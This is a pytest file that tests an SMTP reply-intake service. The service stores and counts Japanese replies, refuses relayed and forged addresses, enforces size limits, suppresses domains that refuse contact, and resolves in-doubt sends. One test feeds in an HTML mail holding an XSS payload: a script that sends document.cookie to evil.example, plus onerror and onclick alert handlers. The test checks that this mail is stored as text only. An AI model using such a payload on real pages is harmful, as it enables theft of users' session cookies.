"""``mikomi mailin`` over real SMTP (aiosmtpd server, smtplib client) on both engines: what it
stores and counts, what it refuses during the conversation, what it forwards, and the in-doubt
items it resolves (docs/rules.md#responses)."""

from __future__ import annotations

import logging
import secrets
import smtplib
import time
from datetime import timedelta

import pytest
from sqlalchemy import select

from shared import ledger
from shared.db import transaction
from shared.models import SendItem, Suppression, TicketLedgerEntry
from shared.suppression import is_suppressed
from tests.coordinator.responses import mails
from tests.coordinator.responses.replies import (
    DOMAIN,
    IN_DOUBT,
    SENT,
    Mailin,
    item_state,
    make_sent_items,
    responses_of,
    snapshot,
)
from tests.support.processes import wait_until

HUMAN = "山田様\n\nご提案ありがとうございます。一度お話を伺えますでしょうか。\n\n田中"


@pytest.mark.parametrize(
    "build",
    [mails.iso2022jp, mails.shift_jis, mails.utf8_qp],
    ids=["iso-2022-jp", "shift_jis", "utf-8"],
)
def test_each_encoding_is_stored_as_text(
    mailin: Mailin, build, caplog: pytest.LogCaptureFixture
) -> None:  # type: ignore[no-untyped-def]
    sent = make_sent_items([SENT])
    [address] = sent.items
    caplog.set_level(logging.INFO, logger="mikomi.mailin")
    assert mailin.send(build(address, "Re: ご提案の件", HUMAN), [address]) == {}
    accepted = [r.getMessage() for r in caplog.records if "accepted reply" in r.getMessage()]
    assert accepted and f"item {sent.items[address]}" in accepted[0]
    with transaction() as db:
        [row] = responses_of(db, sent.reservation_id)
        assert (row.kind, row.refusal) == ("reply", False)
        assert row.subject == "Re: ご提案の件"
        assert row.body_text == HUMAN
        assert row.mail_from == mails.FROM
        assert row.message_id.endswith("@prospect.example.jp>")
        assert row.headers and row.headers["subject"] == "Re: ご提案の件"
        assert row.size > 0
    assert snapshot(sent.reservation_id)["replies"] == 1


def test_counters_count_items_by_kind(mailin: Mailin) -> None:
    sent = make_sent_items([SENT, SENT, SENT])
    a, b, c = sent.items
    mailin.send(
        mails.utf8_qp(a, "【自動返信】お問い合わせありがとうございます", "受付しました"), [a]
    )
    mailin.send(mails.utf8_qp(a, "【自動返信】お問い合わせありがとうございます", "二通目"), [a])
    mailin.send(mails.iso2022jp(b, "【自動返信】受付", "受付"), [b])
    mailin.send(mails.iso2022jp(b, "Re: ご提案", HUMAN), [b])
    mailin.send(mails.bounce(c, "info@x.example.jp"), [c], mail_from="")
    got = snapshot(sent.reservation_id)
    # two auto-replies to one item count once; a bounce counts nowhere
    assert got == {
        "responses": 5,
        "auto_replies": 2,
        "replies": 1,
        "refusals": 0,
        "sent": 3,
        "in_doubt": 0,
    }
    with transaction() as db:
        kinds = [(r.kind, r.item_id) for r in responses_of(db, sent.reservation_id)]
    assert [k for k, _ in kinds] == ["auto_reply", "auto_reply", "auto_reply", "reply", "bounce"]


def test_a_refusal_suppresses_the_domain_and_counts_apart(mailin: Mailin) -> None:
    sent = make_sent_items([SENT, SENT])
    refusing, other = sent.items
    domain = sent.domains[refusing]
    with transaction() as db:
        assert not is_suppressed(db, domain, None)
    mailin.send(
        mails.iso2022jp(
            refusing, "Re: ご案内", "今後のご連絡は不要です。\n営業メールはお断りしております。"
        ),
        [refusing],
    )
    got = snapshot(sent.reservation_id)
    assert (got["replies"], got["refusals"]) == (0, 1)
    with transaction() as db:
        [row] = responses_of(db, sent.reservation_id)
        assert (row.kind, row.refusal) == ("reply", True)
        entry = db.scalar(select(Suppression).where(Suppression.domain == domain))
        # the same entry a refusal notice on the page makes: global, 営業お断り
        assert entry is not None and entry.member_id is None and entry.reason == "refused_sales"
        assert is_suppressed(db, domain, None)
        assert not is_suppressed(db, sent.domains[other], None)


@pytest.mark.parametrize(
    "to",
    [
        "someone@elsewhere.example.com",  # relaying
        f"r-00000000000000000000@{DOMAIN}",  # a token no item carries
        f"r-not-a-token@{DOMAIN}",
        f"postmaster@{DOMAIN}",
    ],
    ids=["relay", "unknown-token", "malformed-token", "other-local-part"],
)
def test_refused_at_rcpt_and_logged_db_unchanged(
    mailin: Mailin, to: str, caplog: pytest.LogCaptureFixture
) -> None:
    sent = make_sent_items([SENT])
    before = snapshot(sent.reservation_id)
    caplog.set_level(logging.INFO, logger="mikomi.mailin")
    with pytest.raises(smtplib.SMTPRecipientsRefused) as refused:
        mailin.send(mails.utf8_qp(to, "Re: ご提案", HUMAN), [to])
    code, _ = refused.value.recipients[to]
    assert code == 550
    assert snapshot(sent.reservation_id) == before
    assert any("refused RCPT" in r.getMessage() and to in r.getMessage() for r in caplog.records)


def test_forged_token_next_to_a_real_one_gets_nothing(mailin: Mailin) -> None:
    sent = make_sent_items([SENT])
    [real] = sent.items
    forged = f"r-{'f' * 20}@{DOMAIN}"
    refused = mailin.send(mails.utf8_qp(real, "Re: ご提案", HUMAN), [real, forged])
    assert refused[forged][0] == 550
    assert snapshot(sent.reservation_id)["responses"] == 1


def test_oversized_message_is_refused_and_logged(
    mailin: Mailin, caplog: pytest.LogCaptureFixture
) -> None:
    sent = make_sent_items([SENT])
    [address] = sent.items
    before = snapshot(sent.reservation_id)
    caplog.set_level(logging.INFO, logger="mikomi.mailin")
    huge = mails.utf8_qp(address, "Re: 大きい", "あ" * 40_000)  # over the 50,000-byte cap
    with smtplib.SMTP("127.0.0.1", mailin.port, timeout=10) as client:
        client.ehlo()
        assert client.has_extn("size") and int(client.esmtp_features["size"]) == 50_000
        # a client that announces the size is refused at MAIL, one that does not after DATA
        with pytest.raises(smtplib.SMTPSenderRefused) as at_mail:
            client.sendmail(mails.FROM, [address], huge, mail_options=[f"SIZE={len(huge)}"])
        assert at_mail.value.smtp_code == 552
        client.rset()
        code, _ = client.mail(mails.FROM)
        assert code == 250
        assert client.rcpt(address)[0] == 250
        assert client.data(huge)[0] == 552
    assert snapshot(sent.reservation_id) == before
    assert sum("refused a message" in r.getMessage() for r in caplog.records) >= 2


def test_broken_and_hostile_mail_is_stored_as_text_only(mailin: Mailin) -> None:
    sent = make_sent_items([SENT, SENT])
    broken, hostile = sent.items
    mailin.send(mails.broken_mime(broken), [broken])
    html = (
        "<html><body><script>document.location='https://evil.example/'+document.cookie</script>"
        "<p onclick=alert(1)>ご提案ありがとうございます</p><img src=x onerror=alert(2)>"
        "<iframe src='https://evil.example/'></iframe></body></html>"
    )
    mailin.send(mails.html_only(hostile, "Re: <b>件名</b>", html), [hostile])
    with transaction() as db:
        rows = {r.item_id: r for r in responses_of(db, sent.reservation_id)}
    assert "壊れたメールです" in rows[sent.items[broken]].body_text
    text = rows[sent.items[hostile]].body_text
    assert text == "ご提案ありがとうございます"
    assert (
        rows[sent.items[hostile]].subject == "Re: <b>件名</b>"
    )  # kept as text, escaped when shown


def test_a_reply_is_forwarded_with_the_sender_as_reply_to(mailin: Mailin) -> None:
    sent = make_sent_items([SENT, SENT])
    replied, auto = sent.items
    mailin.send(mails.shift_jis(replied, "Re: ご提案の件", HUMAN), [replied])
    mailin.send(mails.utf8_qp(auto, "【自動返信】受付", "受付しました"), [auto])

    def to_member() -> list:  # type: ignore[type-arg]
        # (replies of earlier tests whose forwarding failed may be retried into this inbox)
        return [m for rcpt, m in mailin.inbox.messages if rcpt == [sent.member_email]]

    wait_until(lambda: len(to_member()) >= 1, 10, "the forwarded reply")
    time.sleep(0.3)  # an auto-reply would have been forwarded by now as well: it is not
    [msg] = to_member()
    assert msg["Reply-To"] == mails.FROM
    assert msg["Subject"] == "【反響】Re: ご提案の件"
    assert msg.get_content_type() == "text/plain"
    assert HUMAN in msg.get_content()
    with transaction() as db:
        row = next(r for r in responses_of(db, sent.reservation_id) if r.kind == "reply")
        assert row.forwarded_at is not None


def test_an_auto_reply_resolves_an_in_doubt_item_once(mailin: Mailin) -> None:
    sent = make_sent_items([IN_DOUBT], sent_ago=timedelta(seconds=30))
    [address] = sent.items
    item_id = sent.items[address]
    with transaction() as db:
        item = db.get(SendItem, item_id)
        assert item is not None
        member_id = item.member_id
        consumed_before = ledger.balance(db, member_id).consumed
    # CF7's mail (2): no header says it is automatic; the timing and the subject do
    auto = mails.utf8_qp(
        address, "株式会社サンプル お問い合わせありがとうございます", "以下の内容で受け付けました。"
    )
    mailin.send(auto, [address])
    mailin.send(auto, [address])  # the same mail again (a sender's retry): stored once
    second = mails.utf8_qp(address, "【自動返信】お問い合わせありがとうございます", "二通目")
    mailin.send(second, [address])  # another auto-reply proves nothing more
    with transaction() as db:
        assert item_state(db, item_id) == SENT
        item = db.get(SendItem, item_id)
        assert item is not None and item.resolved_by is None  # by the system
        [first, _] = responses_of(db, sent.reservation_id)
        assert item.evidence and item.evidence["resolution"]["response_id"] == first.id
        assert item.evidence["resolution"]["status"] == "sent"
        assert ledger.balance(db, member_id).consumed - consumed_before == 1
        consumes = db.scalars(
            select(TicketLedgerEntry).where(
                TicketLedgerEntry.item_id == item_id, TicketLedgerEntry.kind == "consume"
            )
        ).all()
        assert len(consumes) == 1
    got = snapshot(sent.reservation_id)
    assert (got["sent"], got["in_doubt"], got["auto_replies"]) == (1, 0, 1)


def test_a_bounce_leaves_an_in_doubt_item_alone(mailin: Mailin) -> None:
    sent = make_sent_items([IN_DOUBT], sent_ago=timedelta(seconds=30))
    [address] = sent.items
    mailin.send(mails.bounce(address, "info@x.example.jp"), [address], mail_from="")
    with transaction() as db:
        assert item_state(db, sent.items[address]) == IN_DOUBT


def test_an_auto_reply_from_the_null_sender_counts_and_resolves(mailin: Mailin) -> None:
    """RFC 3834 has auto-responders send from the null sender (MAIL FROM:<>): with its
    Auto-Submitted header such a mail is an auto-reply; without it, a bounce as before."""
    sent = make_sent_items([IN_DOUBT, SENT], sent_ago=timedelta(seconds=30))
    answered, other = sent.items
    away = mails.utf8_qp(
        answered,
        "不在のお知らせ",
        "12月7日まで不在にしております。",
        **{"Auto-Submitted": "auto-replied"},
    )
    mailin.send(away, [answered], mail_from="")
    mailin.send(
        mails.utf8_qp(other, "Delivery failure", "could not deliver"), [other], mail_from=""
    )
    with transaction() as db:
        assert item_state(db, sent.items[answered]) == SENT
        kinds = {r.item_id: r.kind for r in responses_of(db, sent.reservation_id)}
    assert kinds == {sent.items[answered]: "auto_reply", sent.items[other]: "bounce"}
    got = snapshot(sent.reservation_id)
    assert (got["auto_replies"], got["replies"], got["sent"], got["in_doubt"]) == (1, 0, 2, 0)


def test_two_auto_replies_at_once_consume_one_ticket(mailin: Mailin) -> None:
    """Copies of the form's mail arriving together (two MX hosts, a retry), and a second
    auto-reply: one resolution, one consume, one auto-reply counted, each mail stored once."""
    import threading

    sent = make_sent_items([IN_DOUBT], sent_ago=timedelta(seconds=30))
    [address] = sent.items
    item_id = sent.items[address]
    copies = mails.iso2022jp(address, "【自動返信】お問い合わせを受け付けました", "受付しました")
    other = mails.utf8_qp(address, "【自動返信】お問い合わせありがとうございます", "二通目")
    start = threading.Barrier(4)
    errors: list[BaseException] = []

    def deliver(raw: bytes) -> None:
        try:
            start.wait()
            mailin.send(raw, [address])
        except BaseException as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    threads = [threading.Thread(target=deliver, args=(raw,)) for raw in (copies,) * 3 + (other,)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    assert errors == []
    with transaction() as db:
        assert item_state(db, item_id) == SENT
        consumes = db.scalars(
            select(TicketLedgerEntry).where(
                TicketLedgerEntry.item_id == item_id, TicketLedgerEntry.kind == "consume"
            )
        ).all()
        assert len(consumes) == 1
        assert len(responses_of(db, sent.reservation_id)) == 2
    got = snapshot(sent.reservation_id)
    assert (got["sent"], got["in_doubt"], got["auto_replies"]) == (1, 0, 1)


def test_mail_before_the_reaper_turns_an_item_in_doubt_resolves_it(mailin: Mailin) -> None:
    """The form mailed while the item was still submitting, then the worker died: the reaper
    makes it in_doubt, and mailin's minute sweep resolves it as sent, one ticket consumed."""
    from coordinator.responses import service
    from shared import clock, items
    from shared.config import get_settings
    from shared.models import Member, Reservation
    from tests.builders import make_reservation

    member_of = make_sent_items([SENT])  # a member with a login and tickets
    token = secrets.token_hex(10)
    with transaction() as db:
        first = db.get(Reservation, member_of.reservation_id)
        assert first is not None
        reservation = make_reservation(db, member=db.get(Member, first.member_id), items=1)
        [(item_id, attempt)] = items.claim(db, reservation.id, 1)
        assert items.start(db, item_id, attempt, "w1") is not None
        assert items.enter_submitting(db, item_id, attempt) is True
        item = db.get(SendItem, item_id)
        assert item is not None
        item.reply_token = token
        member_id = item.member_id
    address = f"r-{token}@{DOMAIN}"
    mailin.send(
        mails.utf8_qp(address, "【自動返信】お問い合わせありがとうございます", "受付"), [address]
    )
    with transaction() as db:
        assert item_state(db, item_id) == "submitting"  # stored and counted, not resolved yet
        consumed_before = ledger.balance(db, member_id).consumed
    clock.advance(timedelta(seconds=get_settings().lease_seconds + 1))
    with transaction() as db:
        items.reap(db)
    with transaction() as db:
        assert item_state(db, item_id) == IN_DOUBT
        assert service.resolve_answered_in_doubt(db) == 1
    with transaction() as db:
        assert item_state(db, item_id) == SENT
        assert ledger.balance(db, member_id).consumed - consumed_before == 1
        assert service.resolve_answered_in_doubt(db) == 0


def test_starttls_is_offered_with_a_certificate(mail_db: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """With MIKOMI_MAILIN_TLS_CERT/KEY, mailin offers STARTTLS; a mail sent over it is stored."""
    import ssl

    from coordinator.responses.mailin import controller
    from mikomi.supervisor import free_port
    from shared.config import Settings

    cert, key = _self_signed(tmp_path)
    settings = Settings(reply_domain=DOMAIN, mailin_tls_cert=str(cert), mailin_tls_key=str(key))
    server = controller(settings, "127.0.0.1", free_port())
    server.start()
    try:
        sent = make_sent_items([SENT])
        [address] = sent.items
        context = ssl.create_default_context(cafile=str(cert))
        context.check_hostname = False
        with smtplib.SMTP("127.0.0.1", server.port, timeout=10) as client:
            client.ehlo()
            assert client.has_extn("starttls")
            client.starttls(context=context)
            client.ehlo()
            client.sendmail(mails.FROM, [address], mails.utf8_qp(address, "Re: ご提案", HUMAN))
    finally:
        server.stop()
    with transaction() as db:
        [row] = responses_of(db, sent.reservation_id)
        assert row.body_text == HUMAN


def _self_signed(tmp_path):  # type: ignore[no-untyped-def]
    """A one-day self-signed certificate for the reply domain, and its key (PEM files)."""
    from datetime import UTC, datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, DOMAIN)])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(minutes=5))
        .not_valid_after(now + timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(DOMAIN)]), critical=False)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert_path.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path
